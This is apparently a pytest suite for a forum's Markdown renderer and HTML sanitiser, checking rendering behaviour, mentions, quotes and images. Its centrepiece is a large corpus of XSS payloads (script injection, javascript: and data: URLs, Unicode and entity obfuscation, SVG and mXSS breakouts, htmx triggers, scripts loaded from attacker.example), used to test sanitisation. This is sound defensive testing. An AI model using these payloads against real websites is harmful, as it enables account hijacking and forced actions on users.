"""Behaviour and hostile-input tests for community.rendering. No database needed."""

from __future__ import annotations

import re
import time
import unicodedata
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from community.rendering import (
    ALLOWED_TAGS,
    RenderedPost,
    extract_mentions,
    plain_text,
    quote_block,
    render_markdown,
    sanitize_html,
)

KNOWN_USERS = {"alice", "bob", "Carol_1", "dots.and-dash"}
IMAGE_HOSTS = frozenset({"images.example.org"})
SITE_HOST = "forum.example.org"


def resolver(names: set[str]) -> set[str]:
    by_lower = {u.lower(): u for u in KNOWN_USERS}
    return {by_lower[n.lower()] for n in names if n.lower() in by_lower}


def render(source: str, **kwargs) -> RenderedPost:
    kwargs.setdefault("resolve_mentions", resolver)
    return render_markdown(source, **kwargs)


# ---------------------------------------------------------------------------------------
# Output checker, independent of the implementation's allowlist constants on purpose.
# ---------------------------------------------------------------------------------------

CHECK_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "aside", "div",
    "ul", "ol", "li", "pre", "code", "em", "strong", "del", "s", "a", "img", "table",
    "thead", "tbody", "tr", "th", "td", "sup", "sub",
}  # fmt: skip
CHECK_ATTRS = {
    "a": {"href", "title", "rel", "class"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "code": {"class"},
    "aside": {"class", "data-post"},
    "div": {"class"},
    "th": {"class"},
    "td": {"class"},
}
CHECK_CLASSES = {
    "a": {"mention"},
    "aside": {"quote"},
    "div": {"quote-title"},
    "th": {"align-left", "align-center", "align-right"},
    "td": {"align-left", "align-center", "align-right"},
}
SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


def _probe(url: str) -> str:
    kept = "".join(
        ch for ch in url if unicodedata.category(ch) not in {"Cc", "Cf", "Zs", "Zl", "Zp"}
    )
    return unicodedata.normalize("NFKC", kept).lower()


def url_problem(url: str) -> str | None:
    probe = _probe(url)
    if probe.startswith(("\\", "/\\")):
        return f"backslash URL {url!r}"
    match = _SCHEME.match(probe)
    if match and match.group(1) not in SAFE_SCHEMES:
        return f"scheme {match.group(1)!r} in {url!r}"
    if not match and ":" in re.split(r"[/?#]", probe, maxsplit=1)[0]:
        return f"unparseable scheme in {url!r}"
    return None


def image_src_problem(src: str, image_hosts: frozenset[str]) -> str | None:
    if src.startswith("/") and not src.startswith(("//", "/\\")):
        return None
    match = re.match(r"https?://([^/?#:@\\]+)(?:[/?#]|$)", src)
    if match and match.group(1).lower() in image_hosts | {SITE_HOST}:
        return None
    return f"off-site image {src!r}"


class _Checker(HTMLParser):
    def __init__(self, image_hosts: frozenset[str]) -> None:
        # Raw text (no charref conversion) so that a stray "<" in text, e.g. an unclosed tag
        # that the page template's next ">" would complete, is visible in handle_data.
        super().__init__(convert_charrefs=False)
        self.image_hosts = image_hosts
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in CHECK_TAGS:
            self.problems.append(f"tag <{tag}>")
            return
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name == "style" or name.startswith(("hx-", "data-hx")):
                self.problems.append(f"attribute {name} on <{tag}>")
            elif name.startswith("data-") and not (
                tag == "aside" and name == "data-post" and re.fullmatch(r"[0-9]+", value)
            ):
                self.problems.append(f"data attribute {name}={value!r} on <{tag}>")
            elif name not in CHECK_ATTRS.get(tag, set()):
                self.problems.append(f"attribute {name} on <{tag}>")
            elif name in ("href", "src"):
                problem = url_problem(value)
                if problem is None and tag == "img":
                    problem = image_src_problem(value, self.image_hosts)
                if problem:
                    self.problems.append(problem)
            elif name == "class":
                for cls in value.split():
                    ok = cls in CHECK_CLASSES.get(tag, set()) or (
                        tag == "code" and re.fullmatch(r"language-[A-Za-z0-9_+#.\-]+", cls)
                    )
                    if not ok:
                        self.problems.append(f"class {cls!r} on <{tag}>")
            elif name == "rel" and set(value.split()) != {"nofollow", "ugc", "noopener"}:
                self.problems.append(f"rel={value!r}")

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if tag not in CHECK_TAGS:
            self.problems.append(f"end tag </{tag}>")

    def handle_data(self, data):
        if "<" in data:
            self.problems.append(f"raw '<' in text: {data!r}")

    def handle_comment(self, data):
        self.problems.append("comment")

    def handle_decl(self, decl):
        self.problems.append("declaration")

    def unknown_decl(self, data):
        self.problems.append("CDATA/unknown declaration")

    def handle_pi(self, data):
        self.problems.append("processing instruction")


def html_problems(html: str, image_hosts: frozenset[str] = frozenset()) -> list[str]:
    checker = _Checker(image_hosts)
    checker.feed(html)
    checker.close()
    problems = checker.problems
    if "<script" in html.lower():
        problems.append("<script in output")
    return problems


def test_checker_allowlist_matches_module():
    assert set(ALLOWED_TAGS) == CHECK_TAGS


def test_checker_catches_raw_event_handler():
    assert html_problems('<img src=x onerror="alert(1)">')
    assert html_problems('<a href="javascript:alert(1)">x</a>')
    assert html_problems('<a href="jav&#x09;ascript:alert(1)">x</a>')
    assert html_problems('<p style="color:red">x</p>')
    assert html_problems('<div hx-get="/logout">x</div>')
    assert html_problems('<aside data-post="1 onclick">x</aside>')
    assert html_problems("<svg onload=alert(1)>")
    assert html_problems("<p>x</p><img src=x onerror=alert(1)//")
    assert html_problems("<p>x</p><!-- y -->")
    assert not html_problems('<p><a href="https://x.example" rel="nofollow ugc noopener">x</a></p>')


# ---------------------------------------------------------------------------------------
# Hostile corpus
# ---------------------------------------------------------------------------------------

# "javascript:" in fullwidth forms (U+FF4A …, U+FF1A), spelled out to keep the source ASCII.
FULLWIDTH_JS = "".join(chr(ord(ch) + 0xFEE0) for ch in "javascript:")

HOSTILE = [
    # raw script / tag-name tricks
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<scr\0ipt>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//attacker.example/x.js></script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<details open ontoggle="alert(1)">x</details>',
    '<input autofocus onfocus="alert(1)">',
    '<body onload="alert(1)">',
    '<p onmouseover="alert(1)">hover</p>',
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    # javascript:/data:/vbscript: in Markdown
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( JaVa&#9;Script:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](<java\nscript:alert(1)>)",
    "[click](java\nscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\0script:alert(1))",
    "![x](javascript:alert(1))",
    "![x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: <javascript:alert(1)> "title"',
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "javascript:alert(1) and https://ok.example",
    "<a@b.c onmouseover=alert(1)>",
    "[x](//attacker.example)",
    "[x](\\\\attacker.example)",
    "[x](/\\attacker.example)",
    "[x](https:attacker.example)",
    # Unicode tricks
    f"[x]({FULLWIDTH_JS}alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](java\u200dscript:alert(1))",
    "[x](java\ufeffscript:alert(1))",
    "[\u202egnp.exe](https://attacker.example/exe.png)",
    "[x](\u202ejavascript:alert(1))",
    # raw HTML links / entity-encoded schemes
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#106;ava&#x73;cript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    f'<a href="{FULLWIDTH_JS}alert(1)">x</a>',
    '<a href="/\\attacker.example">x</a>',
    '<a href="https://attacker.example" target="_blank">x</a>',
    '<a id="CONFIG" name="csrfToken" href="https://attacker.example">x</a>',
    # SVG / MathML / namespace confusion
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
    '<text y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    # mXSS / rawtext breakouts / comments
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<style><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- x --!><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    # embedding and navigation
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://attacker.example/">',
    '<link rel="stylesheet" href="https://attacker.example/x.css">',
    "<style>@import url(https://attacker.example/s.css);</style>",
    '<a style="position:fixed;inset:0;background:url(javascript:alert(1))">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<img srcset="javascript:alert(1) 1x" src="/ok.png">',
    '<video poster="javascript:alert(1)"></video>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    # htmx
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<a hx-on:click="alert(1)">x</a>',
    '<a hx-on::after-request="alert(1)">x</a>',
    '<div data-hx-post="/account/delete" data-hx-trigger="load">x</div>',
    '<form hx-post="/admin/ban">x</form>',
    # attribute breakouts from Markdown
    '[a](https://example.org "t\\" onmouseover=\\"alert(1))',
    '[a](https://example.org/"onmouseover="alert(1))',
    '![x" onerror="alert(1)](https://example.org/a.png)',
    '![x" onerror="alert(1)](/media/a.png "t\\" onload=\\"alert(1)")',
    '```js" onmouseover="alert(1)\ncode\n```',
    "```<script>alert(1)</script>\ncode\n```",
    # raw HTML mixed with Markdown
    "*<img src=x onerror=alert(1)>*",
    "[<img src=x onerror=alert(1)>](https://example.org)",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "`<img src=x onerror=alert(1)>`",
    "    <img src=x onerror=alert(1)>",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<<script>script>alert(1)<</script>/script>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    # Causerie extensions
    '[quote=""><script>alert(1)</script>"]\nx\n[/quote]',
    '[quote="<img src=x onerror=alert(1)>" post=1]\nx\n[/quote]',
    '[quote="bob" post=1" onmouseover="alert(1)]\nx\n[/quote]',
    '[quote="bob" post=1 data-x=2]\nx\n[/quote]',
    '[quote="bob" post=1]\n<script>alert(1)</script>\n[x](javascript:alert(1))\n[/quote]',
    '<aside class="quote" data-post="1 onclick=alert(1)">x</aside>',
    '<aside data-post="javascript:alert(1)" data-foo="x">x</aside>',
    '<div class="quote-title evil" id="x">x</div>',
    '<code class="language-py onload" onclick="x">y</code>',
    '<a class="mention admin" href="/u/bob/">@bob</a>',
    '@"><img src=x onerror=alert(1)>',
    "@bob<script>alert(1)</script>",
    "[@alice](javascript:alert(1))",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    '<td style="color:red" class="align-left evil">x</td>',
    '<ol start="1 onclick=alert(1)"><li>x</li></ol>',
]


def test_hostile_corpus_is_large_enough():
    assert len(HOSTILE) >= 70


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markdown_renders_safely(source):
    html = render(source, image_hosts=IMAGE_HOSTS, site_host=SITE_HOST).html
    assert html_problems(html, IMAGE_HOSTS) == [], html


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_html_sanitizes_safely(source):
    html = sanitize_html(source, image_hosts=IMAGE_HOSTS, site_host=SITE_HOST)
    assert html_problems(html, IMAGE_HOSTS) == [], html
    assert sanitize_html(html, image_hosts=IMAGE_HOSTS, site_host=SITE_HOST) == html


def test_most_raw_hostile_inputs_fail_the_checker():
    # If the checker passed the raw corpus, "sanitized output passes" would prove nothing.
    failing = [s for s in HOSTILE if html_problems(s)]
    assert len(failing) >= 80


def test_naive_markdown_pipeline_fails_the_checker():
    # The same point for the Markdown path: raw HTML on, any link scheme, no sanitizer.
    naive = MarkdownIt("commonmark", {"html": True, "linkify": True})
    naive.enable(["table", "strikethrough", "linkify"])
    naive.validateLink = lambda url: True
    failing = [s for s in HOSTILE if html_problems(naive.render(s))]
    assert len(failing) >= 100


@pytest.mark.parametrize(
    "source",
    [
        ">" * 50_000,
        "\n".join(">" * i for i in range(300)),
        "[" * 50_000,
        "[" * 25_000 + "]" * 25_000,
        "`" * 50_000,
        "` `` ``` " * 5_000,
        "*a " * 16_000,
        "![a" * 15_000,
        "[quote]\n" * 6_000,
        "[quote]\n" * 3_000 + "[/quote]\n" * 3_000,
        "text\n[quote]\n" * 3_000,
        "@" * 50_000,
        "@a " * 16_000,
        "*" * 25_000 + "a" + "*" * 25_000,
        "\n".join("  " * i + "- x" for i in range(300)),
        "|" * 50_000,
    ],
    ids=lambda s: repr(s[:12]),
)
def test_pathological_inputs_are_fast(source):
    start = time.perf_counter()
    rendered = render(source)
    elapsed = time.perf_counter() - start
    assert elapsed < 5.0
    assert html_problems(rendered.html) == []


# ---------------------------------------------------------------------------------------
# Behaviour
# ---------------------------------------------------------------------------------------


def test_paragraphs_and_emphasis():
    html = render("Hello *world* and **bold**").html
    assert html == "<p>Hello <em>world</em> and <strong>bold</strong></p>\n"


def test_tables_use_classes_not_style():
    html = render("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |").html
    assert "<table>" in html
    assert '<th class="align-left">a</th>' in html
    assert '<td class="align-center">2</td>' in html
    assert '<td class="align-right">3</td>' in html
    assert "style" not in html


def test_strikethrough():
    assert "<s>gone</s>" in render("~~gone~~").html


def test_fenced_code_keeps_language_class_and_escapes():
    html = render("```python\nif a < b: print('@bob')\n```").html
    assert '<pre><code class="language-python">' in html
    assert "if a &lt; b" in html
    assert "mention" not in html


def test_fenced_code_with_hostile_language_drops_class():
    html = render('```"><script>\nx\n```').html
    assert "<pre><code>x" in html


def test_linkify_and_rel():
    html = render("see https://example.com/path?q=1 and www.example.org").html
    assert (
        '<a href="https://example.com/path?q=1" rel="nofollow ugc noopener">'
        "https://example.com/path?q=1</a>"
    ) in html
    assert 'href="http://www.example.org"' in html


def test_linkify_bare_domains_emails_and_schemes_but_not_prose():
    html = render("e.g. example.com, a@example.org, //x and http://h.example. Done.").html
    assert '<a href="http://example.com"' in html
    assert '<a href="mailto:a@example.org"' in html
    assert '<a href="http://h.example"' in html
    assert html.count("<a ") == 3


def test_markdown_link_gets_rel_and_title():
    html = render('[site](https://example.com "Title")').html
    assert (
        '<a href="https://example.com" title="Title" rel="nofollow ugc noopener">site</a>' in html
    )


def test_raw_html_is_shown_as_text():
    html = render("<b>bold</b> <script>alert(1)</script>").html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html
    assert "&lt;script&gt;" in html
    assert "<b>" not in html


def test_bad_scheme_link_stays_text():
    html = render("[click](javascript:alert(1))").html
    assert "<a" not in html
    assert "[click](javascript:alert(1))" in html


def test_mailto_and_relative_links_allowed():
    html = render("[m](mailto:a@example.com) [r](/t/1/) [q](?page=2)").html
    assert 'href="mailto:a@example.com"' in html
    assert 'href="/t/1/"' in html
    assert 'href="?page=2"' in html


def test_link_count_counts_external_only():
    post = render(
        "[a](https://other.example/) [b](/t/1/) [c](https://forum.example.org/x) "
        "[d](mailto:x@y.z) https://third.example @bob [e](//proto.example/)",
        site_host=SITE_HOST,
    )
    assert post.link_count == 3


def test_headings_lists_blockquote_hr():
    html = render("# T\n\n> q\n\n3. a\n4. b\n\n---\n\n- x").html
    assert "<h1>T</h1>" in html
    assert "<blockquote>" in html
    assert '<ol start="3">' in html
    assert "<hr>" in html
    assert "<ul>" in html
    assert "id=" not in html


# Mentions ------------------------------------------------------------------------------


def test_mention_resolved():
    post = render("hi @alice!")
    assert (
        '<a class="mention" href="/u/alice/" rel="nofollow ugc noopener">@alice</a>!' in post.html
    )
    assert post.mentions == frozenset({"alice"})


def test_mention_case_insensitive_uses_resolver_spelling():
    post = render("hi @ALICE and @carol_1")
    assert 'href="/u/alice/"' in post.html
    assert ">@Carol_1</a>" in post.html
    assert post.mentions == frozenset({"alice", "Carol_1"})


def test_mention_with_dots_and_dashes_and_trailing_period():
    post = render("thanks @dots.and-dash.")
    assert 'href="/u/dots.and-dash/"' in post.html
    assert "</a>.</p>" in post.html


def test_mention_unresolved_is_text():
    post = render("hi @nobody")
    assert post.html == "<p>hi @nobody</p>\n"
    assert post.mentions == frozenset()


def test_mentions_without_resolver_are_not_linked():
    post = render_markdown("hi @alice")
    assert "<a" not in post.html
    assert post.mentions == frozenset()


def test_mentions_in_code_are_not_linked():
    post = render("`@alice`\n\n```\n@bob\n```\n\n    @alice")
    assert "mention" not in post.html
    assert post.mentions == frozenset()


def test_mention_in_link_text_not_linked():
    post = render("[@alice](https://example.com)")
    assert "mention" not in post.html


def test_email_is_not_a_mention():
    post = render("write to bob@example.com or alice@local")
    assert "mention" not in post.html
    assert post.mentions == frozenset()
    assert 'href="mailto:bob@example.com"' in post.html


def test_escaped_and_embedded_at_is_not_a_mention():
    post = render(r"\@alice foo_@bob x.@alice @alice@host")
    assert "mention" not in post.html


def test_too_long_username_is_not_a_mention():
    post = render("@" + "a" * 31, resolve_mentions=lambda names: names)
    assert "mention" not in post.html


def test_resolver_called_once_with_candidates():
    calls = []

    def spy(names):
        calls.append(set(names))
        return set()

    render("@alice @bob @alice `@carol`", resolve_mentions=spy)
    assert calls == [{"alice", "bob"}]


def test_resolver_cannot_inject_names():
    post = render("@alice", resolve_mentions=lambda _: {'alice"><script>', "mallory"})
    assert "mention" not in post.html
    assert post.mentions == frozenset()


def test_extract_mentions_matches_rendering_rules():
    source = "@alice `@bob` bob@example.com [@carol](/x)\n\n[quote=x]\n@dave\n[/quote]\n\n@Erin."
    assert extract_mentions(source) == {"alice", "Erin"}


def test_mentions_inside_quotes_are_linked_but_do_not_notify():
    post = render('[quote="bob" post=5]\nhey @alice\n[/quote]\n\nthanks @bob')
    assert 'href="/u/alice/"' in post.html
    assert post.mentions == frozenset({"bob"})


# Quotes --------------------------------------------------------------------------------


def test_quote_block():
    post = render('[quote="alice" post=123]\n**hello**\n[/quote]\n\nreply')
    assert post.html == (
        '<aside class="quote" data-post="123">\n'
        '<div class="quote-title">alice:</div>\n'
        "<blockquote>\n<p><strong>hello</strong></p>\n</blockquote>\n</aside>\n"
        "<p>reply</p>\n"
    )
    assert post.quoted_post_ids == (123,)


def test_quote_without_post_or_name():
    assert '<aside class="quote">' in render("[quote=bob]\nx\n[/quote]").html
    html = render("[quote]\nx\n[/quote]").html
    assert '<aside class="quote">\n<blockquote>' in html
    assert "quote-title" not in html


def test_unterminated_quote_is_text():
    post = render('[quote="alice" post=1]\nhello')
    assert post.html == '<p>[quote="alice" post=1]<br>\nhello</p>\n'
    assert post.quoted_post_ids == ()


def test_nested_quotes_and_depth_cap():
    source = (
        "[quote=a post=1]\n[quote=b post=2]\n[quote=c post=3]\n[quote=d post=4]\n"
        "deep\n[/quote]\n[/quote]\n[/quote]\n[/quote]\n\n[quote=e post=9]\ne\n[/quote]"
    )
    post = render(source)
    assert post.html.count("<aside") == 4  # three nested + the second top-level one
    assert "[quote=d post=4]" in post.html
    assert post.quoted_post_ids == (1, 9)


def test_quote_inside_list_and_blockquote():
    assert "<li>item\n<aside" in render("- item\n  [quote=a]\n  x\n  [/quote]").html
    assert "<blockquote>\n<aside" in render("> [quote=a]\n> x\n> [/quote]").html


def test_quote_markers_in_code_are_code():
    html = render("```\n[quote]\nx\n[/quote]\n```").html
    assert "<aside" not in html


def test_quote_title_is_escaped():
    html = render('[quote="<b>x</b>"]\ny\n[/quote]').html
    assert '<div class="quote-title">&lt;b&gt;x&lt;/b&gt;:</div>' in html


def test_quote_block_round_trip():
    markdown = quote_block(username="alice", post_id=42, source="Hi **there**\n")
    assert markdown == '[quote="alice" post=42]\nHi **there**\n[/quote]\n\n'
    post = render(markdown + "My reply")
    assert post.quoted_post_ids == (42,)
    assert "<p>My reply</p>" in post.html


def test_quote_block_neutralises_hostile_name_and_unbalanced_markers():
    markdown = quote_block(username='bob"]\n[x', post_id=7, source="a\n[/quote]\n[quote]\nb")
    post = render(markdown)
    assert post.html.count("<aside") == 1
    assert '<div class="quote-title">bobx:</div>' in post.html
    assert "[/quote]<br>\n[quote]" in post.html


def test_quote_block_keeps_nested_quotes():
    inner = quote_block(username="bob", post_id=1, source="orig")
    post = render(quote_block(username="alice", post_id=2, source=inner + "answer"))
    assert post.html.count("<aside") == 2
    assert post.quoted_post_ids == (2,)


def test_quote_block_rejects_bad_post_id():
    with pytest.raises(ValueError):
        quote_block(username="a", post_id=-1, source="x")


# Images --------------------------------------------------------------------------------


def test_same_site_image_kept():
    post = render('![cat](/media/cat.png "Cat")')
    assert '<img src="/media/cat.png" alt="cat" title="Cat">' in post.html
    assert post.image_count == 1


def test_allowed_host_and_site_host_images_kept():
    post = render(
        "![a](https://images.example.org/a.png) ![b](https://forum.example.org/b.png)",
        image_hosts=IMAGE_HOSTS,
        site_host=SITE_HOST,
    )
    assert post.html.count("<img") == 2
    assert post.image_count == 2


def test_external_image_becomes_link():
    post = render("![tracker](https://evil.example/pixel.gif)")
    assert "<img" not in post.html
    assert (
        '<a href="https://evil.example/pixel.gif" rel="nofollow ugc noopener">tracker</a>'
        in post.html
    )
    assert post.image_count == 0
    assert post.link_count == 1


def test_external_image_without_alt_uses_src_as_text():
    html = render("![](https://evil.example/p.gif)").html
    assert ">https://evil.example/p.gif</a>" in html


def test_protocol_relative_and_userinfo_images_are_not_same_site():
    html = render(
        "![a](//evil.example/x.png) ![b](https://images.example.org@evil.example/x.png)",
        image_hosts=IMAGE_HOSTS,
    ).html
    assert "<img" not in html


def test_external_image_inside_link_becomes_text():
    html = render("[![logo](https://evil.example/l.png)](https://example.com)").html
    assert html.count("<a") == 1
    assert ">logo</a>" in html


def test_sanitize_html_drops_offsite_img_src():
    assert sanitize_html('<img src="https://evil.example/x.png" alt="a">') == '<img alt="a">'
    assert sanitize_html('<img src="/ok.png">') == '<img src="/ok.png">'


# sanitize_html -------------------------------------------------------------------------


def test_sanitize_html_keeps_allowlisted_markup():
    html = '<p><strong>a</strong> <code class="language-js">x</code> <sup>1</sup></p>'
    assert sanitize_html(html) == html


def test_sanitize_html_filters_classes_and_adds_rel():
    out = sanitize_html('<a class="mention big" href="/u/a/" rel="opener">@a</a>')
    assert out == '<a class="mention" href="/u/a/" rel="nofollow ugc noopener">@a</a>'


def test_rendered_output_is_idempotent_under_sanitize():
    post = render(
        "# x\n\n| a |\n|--:|\n| 1 |\n\n[quote=a post=1]\n@alice ![i](/i.png)\n[/quote]",
        site_host=SITE_HOST,
    )
    assert sanitize_html(post.html, site_host=SITE_HOST) == post.html


# plain_text ----------------------------------------------------------------------------


def test_plain_text_strips_markup_and_decodes_entities():
    html = render("# Title\n\nHello **world** &amp; <x>\n\n- a\n- b").html
    assert plain_text(html) == "Title\nHello world & <x>\na\nb"


def test_plain_text_drops_script_content_and_keeps_img_alt():
    assert plain_text("<p>a<script>evil()</script> <img alt='pic' src='/x'></p>") == "a pic"


def test_plain_text_limit_cuts_on_word_boundary():
    text = plain_text("<p>" + "word " * 100 + "</p>", limit=40)
    assert len(text) <= 40
    assert text.endswith("word…")
    assert plain_text("<p>short</p>", limit=40) == "short"


def test_plain_text_empty():
    assert plain_text("") == ""
    assert render("").html == ""


def test_single_newline_is_a_line_break_as_members_expect():
    assert render_markdown("line one\nline two").html == "<p>line one<br>\nline two</p>\n"
